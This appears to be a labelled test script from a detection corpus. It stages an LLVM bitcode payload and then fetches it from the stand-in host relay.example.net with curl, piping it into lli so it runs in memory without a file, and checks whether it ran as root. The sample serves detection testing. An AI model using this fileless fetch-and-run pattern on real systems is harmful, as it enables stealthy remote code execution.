#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=curl,lli far=out seconds=14 parts=dns,outside-web
# curl gives LLVM's interpreter bitcode over a pipe, and it is compiled in memory and run: there is no file.
# shellcheck disable=SC2016 # other languages have variables of their own
if [ "$1" = out ]; then
	mkdir -p "$LAB/outside/drop"; printf '%s\n' '#include <stdlib.h>' '#include <unistd.h>' 'int main(void) { system("id >\"$LAB/ran\""); sleep(3); return 0; }' >"$LAB/agent.c"
	clang-14 -O1 -emit-llvm -c "$LAB/agent.c" -o "$LAB/outside/drop/agent.bc"; sleep 16; exit 0
fi
sleep 3; curl -s http://relay.example.net/drop/agent.bc | timeout 10 lli -; grep -q uid=0 "$LAB/ran"
